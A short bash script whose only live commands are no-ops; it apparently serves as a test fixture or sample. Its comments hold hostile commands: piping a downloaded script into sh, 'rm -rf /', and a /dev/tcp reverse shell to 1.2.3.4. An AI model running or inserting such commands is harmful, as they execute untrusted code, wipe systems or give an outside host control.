#!/bin/bash
# sudo apt-get install everything
# curl http://example.org | sh
# rm -rf /   <- never do this
# bash -i >& /dev/tcp/1.2.3.4/80
: # nothing
true
